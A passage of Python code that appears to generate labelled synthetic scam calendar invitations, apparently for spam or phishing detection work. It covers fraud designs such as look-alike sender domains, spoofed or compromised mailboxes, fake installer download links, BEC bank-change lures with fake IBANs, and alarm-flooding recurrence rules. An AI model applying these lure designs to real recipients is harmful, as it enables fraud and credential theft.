        wire(m, c, client, (rng.choice([v["brand"], "Helpdesk", sp.name]), "%s@%s" % (sp.local(rng), dom)), "pass")
        m.set(descr=m.descr + " from compromised %s mailbox" % client)
    elif client == "booking":
        dom = c.look(v["brand"])
        m.set(brand=brand_esp(c, v["brand"], dom), note=m.desc, method="REQUEST")
        lookalike_wire(m, c, "booking", dom, name=v["brand"])
    else:
        wire(m, c, client, spam_free_sender(c, client, v["brand"]), "pass")
    hide_payload(m, c, t, url)
    return m


def callback(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or "Norton"
    v["phone"] = c.phone(True, "en" if rng.random() < 0.6 else c.lang)
    client = W(rng, [("google", 3), ("apple", 1), ("outlook", 2), ("yahoo", 1), ("tool", 1), ("booking", 3)])
    m = c.msg(offset_days=rng.choice([0, 1, 1, 2]))
    c.text(m, v, {})
    m.set(descr="%s callback scam, phone number only" % v["brand"])
    if client == "tool":
        as_tool(m, c, (v["brand"] + " Billing", "%s@%s" % (rng.choice(["billing", "invoice", "orders"]), c.look(v["brand"]))))
    elif client == "booking":
        dom = c.look(v["brand"] + "billing")
        m.set(brand=brand_esp(c, v["brand"], dom), note=m.desc)
        lookalike_wire(m, c, "booking", dom, name=v["brand"])
    else:
        wire(m, c, client, spam_free_sender(c, client, rng.choice([v["brand"], v["brand"] + " Billing", "Billing Department", ""])), "pass")
    if rng.random() < 0.3:
        m.set(loc=v["phone"])
    return m


def update(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or "Teams"
    url = rng.choice(["https://%s/download/%s" % (c.look(v["brand"], ["com", "app", "net", "cloud", "online"]), rng.choice(["TeamsUpdate_x64.msi", "ZoomInstaller.exe", "MeetAudio.exe", "update.msix", "AdobeReaderPlugin.zip"])),
                      c.url("abuse", v["brand"])])
    v["url"] = url
    client = W(rng, [("outlook", 3), ("zoom", 2), ("google", 2), ("thunderbird", 1), ("tool", 2)])
    m = c.msg(offset_days=rng.choice([0, 1, 1, 2]), dur=30)
    c.text(m, v, {})
    m.set(descr="fake %s update / paste-command lure" % v["brand"] if t.get("clickfix") else "fake %s client-update lure" % v["brand"])
    if client == "outlook":
        dom = c.orgdom()
        wire(m, c, "outlook", c.addr(c.p(), dom), "pass", "teams" if v["brand"] == "Teams" else "m365")
        m.set(descr=m.descr + ", compromised business mailbox")
    elif client == "zoom":
        dom = rng.choice(["zoom-meetings.us", "zoomus-client.com", "zoom-workplace.app", "us06web-zoom.com"])
        p = c.p()
        m.set(zoom_from="no-reply@" + dom, conf={"url": url})
        wire(m, c, "zoom", ("Zoom", "no-reply@" + dom), "pass", org=(p.name, "%s@%s" % (p.local(rng), dom)))
        m.set(smtp_infra=None)
        m.infra = None
        m.set(dmarc_override="p=NONE sp=NONE dis=NONE")
        m.set(descr=m.descr + " from look-alike Zoom domain")
    elif client == "tool":
        tp = c.p()
        as_tool(m, c, (tp.name, "%s@%s" % (tp.local(rng), c.look("meet", ["com", "app", "io"]))))
    else:
        if client == "google" and rng.random() < 0.5:
            dom = c.orgdom()
            wire(m, c, "google", c.addr(c.p(), dom), "pass")
            m.set(descr=m.descr + ", compromised Workspace account")
        else:
            wire(m, c, client, spam_free_sender(c, client), "pass")
    return m


def bec(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    k = t.get("k", "gift")
    rdom = c.rcpt.domain
    ceo = c.p()
    v.update(ceo=ceo.first if rng.random() < 0.5 else ceo.name, emp=c.rcpt.name if False else c.p().name,
             supplier=c.orgname(c.orgdom()), name=c.p().name, bank=rng.choice(["Revolut Bank UAB", "Wise Europe SA", "Monzo Bank", "bunq B.V.", "Banco Santander", "Millennium BCP"]),
             iban=c.iban(), bic=c.code(8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), amt="{:,}".format(rng.randint(18, 240) * 1000 + rng.choice([0, 500, 750])),
             codename=rng.choice(["Atlas", "Falcon", "Orion", "Neptune", "Bluebird"]), lawyer="%s (%s LLP)" % (c.p("en").name, c.p("en").last))
    m = c.msg(offset_days=rng.choice([0, 0, 1]), dur=15, hour=rng.choice([9, 10, 11, 14]))
    c.text(m, v, {})
    client = W(rng, [("outlook", 5), ("google", 3), ("thunderbird", 2), ("apple", 1), ("zimbra", 1), ("tool", 1), ("mailfwd", 2)])
    how = rng.choice(["look", "free", "look", "comp"]) if k != "supplier" else rng.choice(["look", "comp", "comp"])
    if client == "mailfwd":
        dom = c.typo(rdom) if how != "comp" else c.orgdom()
        sp = c.p()
        sdom = c.typo(c.orgdom())
        spam_forward(m, c, (ceo.name, "%s@%s" % (ceo.local(rng, "f.l"), dom)), (sp.name, "%s@%s" % (sp.local(rng, "f.l"), sdom)))
        m.set(descr="BEC (%s) forwarding a fake earlier invitation" % k, dmarc_override=None if how == "comp" else "p=NONE sp=NONE dis=NONE")
        return m
    if how == "free" or (client in ("apple",) and how != "comp"):
        dom = {"google": "gmail.com", "outlook": "outlook.com", "apple": "icloud.com"}.get(client, rng.choice(["gmail.com", "outlook.com"]))
        if client not in ("google", "outlook", "apple", "thunderbird"):
            client = "google"
            dom = "gmail.com"
        p = ceo
        frm = (p.name, "%s.%s%s@%s" % (p.first_l, p.last_l, rng.choice(["", ".office", ".ceo", "01"]), dom))
        wire(m, c, client, frm, "pass")
        m.set(descr="BEC (%s) impersonating an executive from a free-mail account" % k)
    elif how == "look":
        dom = c.typo(rdom) if k != "supplier" else c.typo(c.orgdom())
        if client == "tool":
            client = "outlook"
        lookalike_wire(m, c, client, dom, p=ceo if k != "supplier" else None,
                       variant=rng.choice(["m365", "olk"]) if client == "outlook" else None)
        m.set(descr="BEC (%s) from newly registered look-alike domain" % k)
    else:
        dom = c.orgdom()
        if client == "tool":
            client = "outlook"
        wire(m, c, client, c.addr(c.p(), dom), "pass")
        m.set(descr="BEC (%s) from compromised supplier mailbox" % k)
    if rng.random() < 0.35 and how != "comp":
        m.set(reply_to=(m.frm[0], "%s@%s" % (m.frm[1].split("@")[0], rng.choice(["gmail.com", "outlook.com", "proton.me", c.look("exec", ["com", "net"])]))))
    if t.get("hide"):
        hide_payload(m, c, t, "IBAN %s" % v["iban"])
        if m.xalt:
            m.xalt = "<html><body><p>New remittance details:</p><p>Beneficiary: %s<br>IBAN: %s<br>BIC: %s</p></body></html>" % (v["supplier"], v["iban"], v["bic"])
    if rng.random() < 0.6:
        m.set(attendees=[rcpt_attendee(c)])
    return m


def advance(c):
    rng = c.rng
    v = common_v(c)
    p = c.p("en")
    v.update(name=rng.choice(["Barr.", "Mr.", "Dr.", "Mrs."]) + " " + p.name if c.lang == "en" else p.name, amt=rng.choice(["10.5", "12.8", "7.2", "4.5", "21.3", "850", "500"]),
             priv="%s%d@%s" % (p.last_l, rng.randint(1, 99), rng.choice(["gmail.com", "outlook.com", "proton.me", "yahoo.com", "hotmail.com"])))
    client = W(rng, [("yahoo", 2), ("outlook", 2), ("google", 2), ("tool", 1), ("zimbra", 1), ("sogo", 1), ("thunderbird", 1)])
    m = c.msg(offset_days=rng.choice([1, 3, 5, 7]))
    c.text(m, v, {})
    m.set(descr="advance-fee fraud")
    if client == "tool":
        as_tool(m, c, (p.name, "%s@%s" % (c.junk_local(), c.look("chambers", ["com", "org", "ng", "co"]))))
    elif client in ("zimbra", "sogo"):
        wire(m, c, client, (p.name, "%s@%s" % (c.p().local(rng), rng.choice([c.orgdom(), "staff.%s.edu" % c.path(5).lower()]))), "pass")
        m.set(descr=m.descr + " from compromised %s mailbox" % client)
    else:
        wire(m, c, client, spam_free_sender(c, client, p.name), "pass")
    m.set(reply_to=(p.name, v["priv"]) if rng.random() < 0.5 else None)
    return m


def task(c):
    rng = c.rng
    v = common_v(c)
    v["company"] = rng.choice(["TalentLink", "Adecco Remote", "HireNow Global", "Pinnacle Staffing", "Randstad Digital", "BrightWorks HR"])
    url = c.url("abuse", "tasks")
    v["url"] = url
    client = W(rng, [("google", 2), ("apple", 2), ("outlook", 2), ("zoom", 1), ("yahoo", 1), ("tool", 1), ("booking", 2)])
    m = c.msg(offset_days=rng.choice([0, 1, 2, 3]))
    c.text(m, v, {})
    m.set(descr="task/job scam moving victim to messenger")
    if client == "booking":
        spam_booking(m, c, v["company"] + " Careers")
    elif client == "tool":
        as_tool(m, c, ("HR " + v["company"], "hr@" + c.look(v["company"], ["com", "net", "work", "jobs"])))
    elif client == "zoom":
        p = c.p()
        wire(m, c, "zoom", (p.name, "no-reply@zoom.us"), "pass", org=(p.name, "%s@gmail.com" % p.local(rng)))
        m.set(zoom_sender=p.name)
    else:
        wire(m, c, client, spam_free_sender(c, client, rng.choice(["HR " + v["company"], c.p().name, "Recruitment Team"])), "pass")
    return m


def docshare(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    dom = c.orgdom()
    p = c.p()
    v.update(company=c.orgname(dom), sender=p.name)
    url = rng.choice([c.url("abuse", "docs"), "https://%s/%s/_layouts/15/Doc.aspx?id=%s" % (c.look(slug(v["company"]) + "sharepoint", ["com", "net", "app"]), rng.choice(["sites", "personal"]), c.path(10)),
                      "https://%s-my.sharepoint-%s.com/:b:/g/personal/%s" % (slug(v["company"])[:10], c.path(4).lower(), c.path(22))])
    v["url"] = url
    client = W(rng, [("outlook", 4), ("google", 2), ("zimbra", 1), ("nextcloud", 2), ("sogo", 1), ("thunderbird", 1), ("apple", 1), ("mailfwd", 2)])
    m = c.msg(offset_days=rng.choice([0, 1, 1, 2, 3]), dur=30)
    c.text(m, v, {})
    if client == "mailfwd":
        spam_forward(m, c, (p.name, "%s@%s" % (p.local(rng), dom)), c.addr(c.p(), c.orgdom()))
        m.set(descr="document-share lure forwarded from compromised partner mailbox")
        return m
    wire(m, c, client, (p.name, "%s@%s" % (p.local(rng), dom)), "pass")
    m.set(descr="document-share lure from compromised partner mailbox (%s)" % client)
    if client == "apple":
        m.set(variant="mailapp")
    hide_payload(m, c, t, url)
    if rng.random() < 0.4:
        m.set(extra_attendees=c.many(rng.randint(3, 25), False))
    return m


def nagging(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    url = c.url(rng.choice(["look", "abuse", "shop"]), rng.choice(["meds", "casino", "appleid", "keto", "domain"]))
    v["url"] = url
    nag = t.get("nag") or rng.choice(["daily", "alarms", "far", "minutely", "weekly", "past"])
    client = W(rng, [("tool", 3), ("google", 1), ("apple", 1), ("outlook", 1)])
    m = c.msg()
    c.text(m, v, {})
    m.set(descr="nagging payload (%s)" % nag)
    if nag == "daily":
        m.set(rrule="FREQ=DAILY", alarms=["-PT0M", "-PT5M", "-PT15M"])
    elif nag == "alarms":
        m.set(rrule=rng.choice([None, "FREQ=DAILY;INTERVAL=1"]), alarms=_alarmset(rng, rng.randint(12, 30)))
    elif nag == "far":
        st = c.arrival.replace(year=rng.choice([2099, 2199, 2038, 2100]), hour=9, minute=0, second=0, microsecond=0)
        m.set(start=dt.datetime(st.year, st.month, min(st.day, 28), 9, 0), alarms=["-P%dD" % rng.choice([20000, 27000, 30000])] + _alarmset(rng, 6),
              dur=rng.choice([60, 60 * 24 * 365]))
    elif nag == "minutely":
        m.set(rrule=rng.choice(["FREQ=MINUTELY;INTERVAL=30", "FREQ=HOURLY", "FREQ=HOURLY;INTERVAL=2;COUNT=5000"]), alarms=["-PT1M"], dur=5)
    elif nag == "past":
        m.set(start=dt.datetime(rng.choice([2001, 2009, 2012]), c.arrival.month, min(c.arrival.day, 28), 10, 0), rrule="FREQ=YEARLY", alarms=["-PT10M"])
    else:
        m.set(rrule="FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU", alarms=_alarmset(rng, rng.randint(8, 20)))
    if client == "tool":
        as_tool(m, c, ("", "%s@%s" % (c.junk_local(), c.look(rng.choice(["deals", "promo", "mail"]), ["xyz", "top", "info", "click"]))))
        m.set(alarm_desc=[m.summary, "Reminder!", url])
        if rng.random() < 0.35:
            m.set(comp="VTODO", priority=1, descr=m.descr + ", VTODO")
    else:
        wire(m, c, client, spam_free_sender(c, client), "pass")
    return m


def mass(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    url = c.url(rng.choice(["look", "abuse"]), rng.choice(["congress", "casino", "signals", "bonus"]))
    v["url"] = url
    client = W(rng, [("google", 2), ("outlook", 2), ("apple", 2), ("nextcloud", 1), ("tool", 1), ("booking", 2)])
    m = c.msg(offset_days=rng.choice([3, 7, 14, 30, 60]))
    c.text(m, v, {})
    n = rng.randint(120, 480)
    att = c.many(n)
    att.insert(rng.randint(0, len(att)), rcpt_attendee(c))
    m.set(attendees=att, descr="mass invitation to %d unrelated attendees" % (n + 1))
    if rng.random() < 0.5:
        m.set(to_list=[(a["name"], a["addr"]) for a in att[:rng.randint(20, 60)]] + [("", c.rcpt.addr)])
    if client == "tool":
        as_tool(m, c, (rng.choice(["Conference Secretariat", "Marketing", ""]), "%s@%s" % (rng.choice(["info", "events", "contact"]), c.look("events", ["org", "com", "net", "info"]))))
        m.set(to_list=[("", "undisclosed-recipients:;")] if rng.random() < 0.3 else m.to_list)
    elif client == "nextcloud":
        wire(m, c, client, c.addr(c.p(), c.orgdom()), "pass")
    elif client == "booking":
        spam_booking(m, c, rng.choice(["Global Science Events", "ConferenceWorld", "Summit Secretariat"]))
    elif client == "outlook" and rng.random() < 0.5:
        wire(m, c, client, c.addr(c.p(), c.orgdom()), "pass", "m365")
        m.set(descr=m.descr + " (compromised M365 tenant)")
    else:
        wire(m, c, client, spam_free_sender(c, client), "pass")
    return m


CATS = {"retail-sale-wave": retail, "prize-survey-lure": prize, "crypto-investment": crypto, "dating-sextortion": dating,
        "fee-scam": fee, "credential-phish": phish, "callback-scam": callback, "fake-update-lure": update, "bec": bec,
        "advance-fee": advance, "task-job-scam": task, "doc-share-compromised": docshare, "nagging-payload": nagging,
        "mass-invite": mass}
COUNTS = {"retail-sale-wave": 12, "prize-survey-lure": 12, "crypto-investment": 12, "dating-sextortion": 11, "fee-scam": 12,
          "credential-phish": 14, "callback-scam": 12, "fake-update-lure": 10, "bec": 14, "advance-fee": 10,
          "task-job-scam": 11, "doc-share-compromised": 11, "nagging-payload": 9, "mass-invite": 10}

DESCR = {
    "retail-sale-wave": "knock-off brand sale waves (sunglasses, boots, bags) from throw-away free-mail/iCloud accounts",
    "prize-survey-lure": "gift-card, survey and loyalty-reward lures, 'pay only shipping' prizes",
    "crypto-investment": "crypto giveaways, fake trading platforms, abused webinars, pig-butchering openers, recovery scams",
    "dating-sextortion": "dating lures and sextortion with Bitcoin ransom",
    "fee-scam": "parcel redelivery, toll, tax-refund, customs and traffic-fine payment scams",
    "credential-phish": "credential phishing under Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox brands",
    "callback-scam": "fake renewals/invoices/orders that only give a phone number to call",
    "fake-update-lure": "fake Teams/Zoom/Meet/Webex updates and 'paste this command' lures",
    "bec": "business e-mail compromise: gift cards, supplier bank change, payroll change, urgent wire, W-2",
    "advance-fee": "inheritance, compensation, donation, consignment and lottery advance-fee fraud",
    "task-job-scam": "remote job / task scams that move the victim to WhatsApp or Telegram",
    "doc-share-compromised": "document-share lures sent from compromised real partner mailboxes",
    "nagging-payload": "endless recurrence, dozens of alarms, far-future or long-past dates",
    "mass-invite": "invitations to hundreds of unrelated attendees (predatory congresses, SEO, casino, signals)",
}
